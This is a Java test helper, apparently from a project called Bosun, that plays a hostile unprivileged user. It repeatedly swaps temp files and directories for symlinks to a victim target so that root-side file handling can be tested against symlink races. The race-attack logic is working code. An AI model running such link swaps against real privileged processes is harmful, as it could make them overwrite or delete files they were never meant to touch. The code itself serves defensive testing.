package dev.bosun.stdlib.attack;

import java.io.IOException;
import java.nio.file.DirectoryStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;

/**
 * What a hostile user does in their own directory while root works there, as a child process run as
 * uid 65534 (so its links are really the user's): swaps entries for symlinks to a victim in a loop, for a
 * bounded number of rounds or until the stop file appears. Uses the JDK only, so it runs from the test
 * classes directory alone (the Maven repository under /root is not readable by that user).
 * Prints {@code rounds=N} at the end.
 *
 * <p>Modes: {@code temps DIR VICTIM_FILE}: every new entry in DIR that is not the unit itself (Bosun's
 * temp files) is replaced by a link to the victim file, and DIR itself is swapped for a link to the
 * victim's directory and back. {@code subdir DIR VICTIM_DIR}: DIR/d is swapped for a link to the victim
 * directory and back (recreated when Bosun deleted it).
 */
public final class PathLinkSwapper {
    private PathLinkSwapper() {
    }

    public static void main(String[] args) throws IOException {
        String mode = args[0];
        Path dir = Path.of(args[1]);
        Path victim = Path.of(args[2]);
        long rounds = Long.parseLong(args[3]);
        Path stop = Path.of(args[4]);
        long done = 0;
        for (; done < rounds && !Files.exists(stop); done++) {
            try {
                if (mode.equals("temps")) {
                    swapTemps(dir, victim);
                    swapDirectory(dir, victim.getParent());
                } else {
                    swapSubdir(dir, victim);
                }
            } catch (IOException | RuntimeException e) {
                // Lost a race with Bosun or with ourselves: that is the point; go on.
            }
        }
        System.out.println("rounds=" + done);
    }

    /** Every temp-looking entry becomes a link to the victim file (rename over it: atomic, as an attacker would). */
    private static void swapTemps(Path dir, Path victimFile) throws IOException {
        try (DirectoryStream<Path> ds = Files.newDirectoryStream(dir)) {
            for (Path p : ds) {
                String n = p.getFileName().toString();
                if (n.startsWith(".") && !n.startsWith(".evil")) {
                    Path evil = dir.resolve(".evil");
                    Files.deleteIfExists(evil);
                    Files.createSymbolicLink(evil, victimFile);
                    Files.move(evil, p, StandardCopyOption.ATOMIC_MOVE, StandardCopyOption.REPLACE_EXISTING);
                }
            }
        }
    }

    /** The directory itself becomes a link to the victim's directory for a moment, then comes back. */
    private static void swapDirectory(Path dir, Path victimDir) throws IOException {
        Path aside = dir.resolveSibling(dir.getFileName() + ".aside");
        Files.move(dir, aside, StandardCopyOption.ATOMIC_MOVE);
        try {
            Files.createSymbolicLink(dir, victimDir);
            for (int i = 0; i < 2000; i++) {
                Thread.onSpinWait();
            }
            Files.delete(dir);
        } finally {
            Files.move(aside, dir, StandardCopyOption.ATOMIC_MOVE);
        }
    }

    /** DIR/d becomes a link to the victim directory and back into a directory. */
    private static void swapSubdir(Path dir, Path victimDir) throws IOException {
        Path d = dir.resolve("d");
        Path aside = dir.resolve("d.aside");
        if (Files.isDirectory(d) && !Files.isSymbolicLink(d)) {
            Files.move(d, aside, StandardCopyOption.ATOMIC_MOVE);
        } else if (!Files.exists(aside)) {
            Files.createDirectory(aside);
            Files.writeString(aside.resolve("f"), "user data");
        }
        Path evil = dir.resolve("d.evil");
        Files.deleteIfExists(evil);
        Files.createSymbolicLink(evil, victimDir);
        Files.move(evil, d, StandardCopyOption.ATOMIC_MOVE, StandardCopyOption.REPLACE_EXISTING);
        for (int i = 0; i < 2000; i++) {
            Thread.onSpinWait();
        }
        Files.delete(d);
        Files.move(aside, d, StandardCopyOption.ATOMIC_MOVE);
    }
}
